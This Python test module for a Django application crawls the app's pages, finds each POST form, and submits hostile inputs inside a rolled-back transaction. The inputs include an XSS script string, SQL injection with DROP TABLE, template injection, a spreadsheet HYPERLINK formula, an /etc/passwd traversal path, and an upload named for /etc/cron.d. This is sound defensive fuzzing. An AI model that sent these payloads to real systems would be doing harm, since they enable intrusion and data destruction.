"""Every form of every page, found from the addresses, and what is sent by who means harm."""

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from copy import deepcopy
from typing import Any, Final, NamedTuple
from urllib.parse import urlencode, urljoin

import lxml.html
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from lxml.html import HtmlElement

from tests.promises import matrix
from tests.world import POSTED, World

MARK: Final = "qz"
SCRIPT: Final = f'"><script>{MARK}()</script><b onclick="{MARK}()">'
TEXTS: Final[Mapping[str, str]] = {
    "a megabyte": "y" * 1_000_000,
    "turned around": "Files \u202egnp.exe \u2066\u2067",
    "a zero": "before\0after \x1b[31m \ufffe",
    "script": SCRIPT,
    "formula": '=HYPERLINK("http://example.org?"&A1,"Click")',
    "emoji": "🗽👩\u200d👩\u200d👧\U0001f3f4 e\u0301\u0301\u0301\u0301",
    "query": "' OR 1=1; DROP TABLE register_record; -- %s {{ 7*7 }} ../../etc/passwd",
}
ZIP: Final = b"PK\x03\x04" + bytes(range(256)) * 8
FILES: Final[Mapping[str, tuple[str, bytes]]] = {
    "empty": ("report.pdf", b""),
    "a picture called a report": ("report.pdf", b"\x89PNG\r\n\x1a\n" + bytes(500)),
    "a broken workbook": ("sheet.xlsx", ZIP),
    "no table": ("sheet.csv", b"\xff\xfe\x00\xd8" * 400),
    "zeros": ("report.json", bytes(5_000)),
    "deep": ("report.json", b"[" * 100_000),
    "a program": ("../../etc/cron.d/run.exe", b"MZ" + bytes(500)),
    "a name that is code": (f"<script>{MARK}()</script>\u202e.csv", b"Id,Name\n=1+1,<b>\n"),
    "too large": ("report.pdf", b"%PDF-1.7" + bytes(21_000_000)),
}
_TEXTS_TYPED: Final = ("text", "search", "email", "url", "tel", "password", "number", "hidden")
_OURS: Final = frozenset(("csrfmiddlewaretoken",))
_SIGNING_OUT: Final = "/account/logout/"
_DAY: Final = "dsc-day"


class Field(NamedTuple):
    """A control: its name, what it holds, whether one may write into it, whether it is a day."""

    name: str
    kind: str
    held: str
    writable: bool
    day: bool = False


class Form(NamedTuple):
    """A form that is sent by POST: where to, and what it asks."""

    page: str
    to: str
    fields: tuple[Field, ...]

    @property
    def texts(self) -> list[str]:
        """The fields that take any text."""
        return [f.name for f in self.fields if f.writable and f.kind != "file"]

    @property
    def files(self) -> list[str]:
        """The fields that take a file."""
        return [f.name for f in self.fields if f.kind == "file"]

    def filled(self, text: str, *, days: bool) -> dict[str, list[str]]:
        """What is sent with one text in each field; a day in those for days, unless `days`."""
        sent: dict[str, list[str]] = {}
        for f in self.fields:
            if f.kind == "file":
                continue
            told = text if f.writable else f.held
            sent.setdefault(f.name, []).append("7/30/2026" if f.day and not days else told)
        return sent


def forms(world: World, part: str, client: Client) -> Iterator[Form]:
    """Each form on each page that opens for one of the cast."""
    for page, address in addresses(world, part):
        response = client.get(address)
        if response.status_code == 200 and "html" in response["Content-Type"]:
            yield from on_page(page, address, response)


def addresses(world: World, part: str) -> Iterator[tuple[str, str]]:
    """Every page that opens by GET; the library's own as well, where the address names nothing."""
    reviewed = matrix.read()
    for name, pattern in matrix.pages():
        if name not in POSTED and reviewed.get(name, {}).get(part) == 200:
            yield name, world.address(pattern)
    if part != "nobody":
        yield from (("enter", f"/register/{plural}/new") for plural in _KINDS)
    for name in _of_the_library(get_resolver().url_patterns):
        yield name, reverse(name)


_KINDS: Final = (
    "functions", "systems", "contractors", "designations", "agreements", "types", "policies",
)  # fmt: skip


def _of_the_library(patterns: list[URLPattern | URLResolver], above: str = "") -> Iterator[str]:
    for pattern in patterns:
        path = above + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _of_the_library(pattern.url_patterns, path)
        elif path.startswith("account/") and "<" not in path and "(" not in path and pattern.name:
            yield str(pattern.name)


def on_page(page: str, address: str, response: Any) -> Iterator[Form]:
    """The forms of a page."""
    tree = lxml.html.fromstring(response.content)
    for form in tree.iter("form"):
        to = urljoin(address, form.get("action") or "")
        if (form.get("method") or "").lower() == "post" and to != _SIGNING_OUT:
            controls = form.iter("input", "select", "textarea", "button")
            fields = tuple(f for control in controls for f in _fields(control))
            yield Form(page, to, fields)


def _fields(control: HtmlElement) -> Iterator[Field]:
    name, kind = control.get("name"), str(control.get("type") or "text")
    if not name or name in _OURS:
        return
    if control.tag == "textarea":
        yield Field(name, "textarea", control.text or "", writable=True)
    elif control.tag == "select":
        values = [str(option.get("value") or "") for option in control.iter("option")]
        yield Field(name, "select", next(filter(None, values), ""), writable=False)
    elif control.tag == "button" or kind == "submit":
        return
    elif kind in ("checkbox", "radio"):
        yield Field(name, kind, control.get("value") or "on", writable=False)
    else:
        day = _DAY in (control.get("class") or "")
        held = control.get("value") or ""
        yield Field(name, kind, held, writable=kind in _TEXTS_TYPED[:-1], day=day)


@contextmanager
def undone(client: Client) -> Iterator[None]:
    """What is done within is taken back, and the browser is signed in as before."""
    cookies = deepcopy(client.cookies)
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
    client.cookies = cookies


def send(client: Client, form: Form, text: str, *, days: bool = False) -> Any:
    """The answer to a form with one text in every field."""
    body = urlencode(form.filled(text, days=days), doseq=True)
    return client.post(form.to, body, content_type="application/x-www-form-urlencoded")


def send_file(client: Client, form: Form, name: str, data: bytes) -> Any:
    """The answer to a form with a file in every field that takes one."""
    sent: dict[str, object] = {**form.filled("A text", days=False)}
    for field in form.files:
        file = SimpleUploadedFile("x", data)
        # Set past the library's own cleaning, which a hostile browser has not.
        file._name = name  # type: ignore[attr-defined]
        sent[field] = file
    return client.post(form.to, sent)
